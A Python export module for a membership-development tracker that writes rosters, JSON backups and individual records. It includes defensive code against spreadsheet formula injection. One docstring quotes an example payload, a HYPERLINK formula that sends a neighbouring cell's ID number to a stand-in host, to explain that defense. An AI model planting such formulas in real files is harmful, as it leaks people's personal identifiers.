"""Write rosters (XLSX, CSV, Markdown), the JSON backup, and one person's full record.

Every file is written to a temporary name and renamed, and an existing file is never
replaced unless the caller says so (``force``).
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

from rich.cells import cell_len

from .i18n import BilingualError
from .model import Person
from .registers import Cell, Roster, index_title
from .reports import PersonView
from .serialize import person_json
from .stages import SECTIONS, event_label, stage_label

FORMATS = ("xlsx", "csv", "md", "json")
BACKUP_FORMAT = "party-tracker"
BACKUP_VERSION = 1


class ExportError(BilingualError):
    """A file that cannot or may not be written."""


def _text(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


#: a text cell starting with one of these is a formula to Excel, LibreOffice or Sheets (OWASP CSV injection)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_csv(text: str) -> str:
    """A CSV cell no spreadsheet evaluates: a leading ``'`` before a formula character (importers strip it)."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def inert_cells(ws: Any) -> None:
    """Every text cell of an openpyxl sheet as a string cell: openpyxl writes text starting with ``=`` as a live
    formula, and a name like ``=HYPERLINK("http://x/?"&F4,"click")`` would send the next cell's ID number away."""
    for row in ws.iter_rows():
        for c in row:
            if c.data_type in ("f", "e") and isinstance(c.value, str):  # a formula, or text like "#N/A"
                c.data_type = "s"


def write_atomically(path: Path, write: Callable[[io.BufferedWriter], object], *, force: bool) -> Path:
    path = Path(path)
    if path.exists() and not force:
        raise ExportError(f"文件 {path} 已存在，未覆盖。换一个文件名（-o），或加 --force 覆盖。",
                          f"{path} already exists and was not overwritten. Choose another name (-o) or add --force.")
    path.parent.mkdir(parents=True, exist_ok=True)
    tmp = path.with_name(f".{path.name}.{os.getpid()}.tmp")
    with contextlib.suppress(FileNotFoundError):
        os.unlink(tmp)  # left by a crash: created anew below, never written through
    try:
        # 0600 whatever the umask: rosters and backups hold ID numbers and phones (PIPL)
        fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_EXCL | getattr(os, "O_BINARY", 0), 0o600)
        if hasattr(os, "fchmod"):
            os.fchmod(fd, 0o600)
        with open(fd, "wb") as fh:
            write(fh)
            fh.flush()
            os.fsync(fh.fileno())
        os.replace(tmp, path)
    except BaseException:
        with contextlib.suppress(FileNotFoundError):
            os.unlink(tmp)
        raise
    return path


# ------------------------------------------------------------------ rosters

def _header(r: Roster, lang: str) -> list[str]:
    return [index_title(lang), *(c.title(lang) for c in r.columns)]


def _body(r: Roster) -> list[list[Cell]]:
    return [[i, *row] for i, row in enumerate(r.rows, start=1)]


def rosters_csv(rosters: list[Roster], lang: str) -> bytes:
    if len(rosters) != 1:
        raise ExportError("CSV 只能放一个名册：请指定 --stage，或用 --format xlsx 导出全部。",
                          "A CSV holds one roster: give --stage, or use --format xlsx for all stages.")
    (r,) = rosters
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow([inert_csv(h) for h in _header(r, lang)])
    for row in _body(r):
        w.writerow([inert_csv(v) if isinstance(v, str) else _text(v) for v in row])
    return buf.getvalue().encode("utf-8-sig")  # the BOM makes Excel read Chinese correctly


def md_text(text: str) -> str:
    """Text inside a Markdown table cell or line: a ``|`` or a line break cannot end the cell or the row."""
    text = text.replace("\\", "\\\\").replace("|", "\\|")
    return " ".join(text.splitlines())


def _md_cell(value: Cell) -> str:
    return md_text(_text(value))


def rosters_md(rosters: list[Roster], lang: str) -> bytes:
    parts = []
    for r in rosters:
        parts.append(f"## {md_text(r.title)}\n\n{md_text(r.subtitle)}\n")
        parts.append("| " + " | ".join(_header(r, lang)) + " |")
        parts.append("|" + "---|" * (len(r.columns) + 1))
        for row in _body(r):
            parts.append("| " + " | ".join(_md_cell(v) for v in row) + " |")
        parts.append("")
    return ("\n".join(parts) + "\n").encode("utf-8")


def _width(values: list[str], minimum: int) -> float:
    longest = max((cell_len(v) for v in values), default=0)
    return float(min(max(minimum, longest + 2), 60))


def rosters_xlsx(rosters: list[Roster], lang: str) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Border, Font, PatternFill, Side
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    wb.remove(wb.active)
    thin = Side(style="thin", color="999999")
    border = Border(left=thin, right=thin, top=thin, bottom=thin)
    for r in rosters:
        ws = wb.create_sheet(title=r.sheet[:31])
        header = _header(r, lang)
        ncol = len(header)
        ws.cell(row=1, column=1, value=r.title).font = Font(bold=True, size=16)
        ws.cell(row=1, column=1).alignment = Alignment(horizontal="center")
        ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=ncol)
        ws.cell(row=2, column=1, value=r.subtitle).alignment = Alignment(horizontal="center")
        ws.merge_cells(start_row=2, start_column=1, end_row=2, end_column=ncol)
        for j, title in enumerate(header, start=1):
            c = ws.cell(row=3, column=j, value=title)
            c.font = Font(bold=True)
            c.fill = PatternFill("solid", fgColor="DDEBF7")
            c.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
            c.border = border
        for i, row in enumerate(_body(r), start=4):
            for j, value in enumerate(row, start=1):
                c = ws.cell(row=i, column=j, value=value)
                c.border = border
                if isinstance(value, date):
                    c.number_format = "yyyy-mm-dd"
                    c.alignment = Alignment(horizontal="center")
        for j, title in enumerate(header, start=1):
            minimum = 6 if j == 1 else r.columns[j - 2].width
            texts = [title] + [_text(row[j - 1]) for row in _body(r)]
            ws.column_dimensions[get_column_letter(j)].width = _width(texts, minimum)
        ws.freeze_panes = "B4"
        ws.print_title_rows = "3:3"
        ws.page_setup.orientation = "landscape"
        ws.page_setup.paperSize = ws.PAPERSIZE_A4
        ws.page_setup.fitToWidth = 1
        ws.page_setup.fitToHeight = 0
        ws.sheet_properties.pageSetUpPr.fitToPage = True
        ws.print_options.horizontalCentered = True
        inert_cells(ws)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def render_rosters(rosters: list[Roster], fmt: str, lang: str) -> bytes:
    if fmt == "xlsx":
        return rosters_xlsx(rosters, lang)
    if fmt == "csv":
        return rosters_csv(rosters, lang)
    if fmt == "md":
        return rosters_md(rosters, lang)
    raise ExportError(f"名册不支持格式 {fmt}。", f"Rosters cannot be written as {fmt}.")


# ------------------------------------------------------------------ the JSON backup

def backup_json(people: list[Person], today: date) -> bytes:
    data: dict[str, Any] = {
        "format": BACKUP_FORMAT,
        "version": BACKUP_VERSION,
        "exported": today.isoformat(),
        "people": [person_json(p) for p in people],
    }
    return (json.dumps(data, ensure_ascii=False, indent=1) + "\n").encode("utf-8")


# ------------------------------------------------------------------ one person's full record

def _record_rows(view: PersonView, lang: str) -> list[tuple[str, str, str, str, str]]:
    rows = []
    last = None
    for r in view.timeline:
        section = ""
        if r.section != last:
            _a, _b, zh, en = SECTIONS[r.section]
            section = zh if lang == "zh" else en
            last = r.section
        notes = [late.message(lang) for late in r.late]
        notes += [("超越规则理由：" if lang == "zh" else "Override: ") + o for o in r.overrides]
        if r.status == "next" and r.earliest:
            notes.append(("下一步，最早 " if lang == "zh" else "next, earliest ") + r.earliest.isoformat())
        if r.due:
            notes.append(("应于 " if lang == "zh" else "due ") + r.due.isoformat())
        if r.projected:
            notes.append(("预计最早 " if lang == "zh" else "at the earliest ") + r.projected.isoformat())
        state = {"done": "✓", "next": "→", "open": "!", "todo": ""}[r.status]
        rows.append((section, str(r.step or ""), f"{state} {event_label(r.event, lang)}".strip(),
                     "、".join(d.isoformat() for d in r.dates), "；".join(notes)))
    return rows


def _person_facts(view: PersonView, lang: str, full_id: bool) -> list[tuple[str, str]]:
    from .i18n import label
    from .registers import mask_id

    p = view.person
    facts = [(label("name", lang), p.name), (label("stage", lang), stage_label(p.stage, lang))]
    for key in ("gender", "ethnicity", "birth", "education", "branch", "phone", "id_number", "note"):
        value = getattr(p, key)
        if key == "id_number" and value and not full_id:
            value = mask_id(value)
        if value:
            facts.append((label(key, lang), value.isoformat() if isinstance(value, date) else str(value)))
    for key, value in (("probation_end", view.probation_end), ("standing_from", view.standing_from)):
        if value:
            facts.append((label(key, lang), value.isoformat()))
    return facts


def person_record(view: PersonView, fmt: str, lang: str, today: date, full_id: bool = False) -> bytes:
    title = f"{view.person.name} 发展党员全程纪实" if lang == "zh" else (
        f"{view.person.name}: full record of development (发展党员全程纪实)")
    heads = ["环节", "序号", "步骤", "日期", "说明"] if lang == "zh" else ["Part", "No.", "Step", "Date", "Notes"]
    facts = _person_facts(view, lang, full_id)
    rows = _record_rows(view, lang)
    if fmt == "md":
        lines = [f"# {md_text(title)}", "", ("截至 " if lang == "zh" else "As of ") + today.isoformat(), ""]
        lines += [f"- {k}：{md_text(v)}" if lang == "zh" else f"- {k}: {md_text(v)}" for k, v in facts]
        lines += ["", "| " + " | ".join(heads) + " |", "|---|---|---|---|---|"]
        lines += ["| " + " | ".join(md_text(c) for c in row) + " |" for row in rows]
        return ("\n".join(lines) + "\n").encode("utf-8")
    if fmt != "xlsx":
        raise ExportError("全程纪实可导出为 md 或 xlsx。", "A person's record can be written as md or xlsx.")
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font

    wb = Workbook()
    ws = wb.active
    ws.title = "全程纪实" if lang == "zh" else "Record"
    ws.append([title])
    ws["A1"].font = Font(bold=True, size=14)
    for k, v in facts:
        ws.append([k, v])
    ws.append([])
    ws.append(heads)
    head_row = ws.max_row
    for c in ws[head_row]:
        c.font = Font(bold=True)
    for row in rows:
        ws.append(list(row))
    for col, width in zip("ABCDE", (24, 6, 32, 24, 60), strict=True):
        ws.column_dimensions[col].width = width
    for r in ws.iter_rows(min_row=head_row + 1):
        r[4].alignment = Alignment(wrap_text=True, vertical="top")
    ws.freeze_panes = f"A{head_row + 1}"
    ws.page_setup.orientation = "landscape"
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_setup.fitToHeight = 0
    inert_cells(ws)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def default_name(kind: str, today: date, ext: str, branch: str | None = None) -> str:
    """A sensible file name (Chinese, as the registers are called), e.g. 入党积极分子名册-2026-11-27.xlsx."""
    prefix = f"{branch}-" if branch else ""
    return f"{prefix}{kind}-{today.isoformat()}.{ext}"
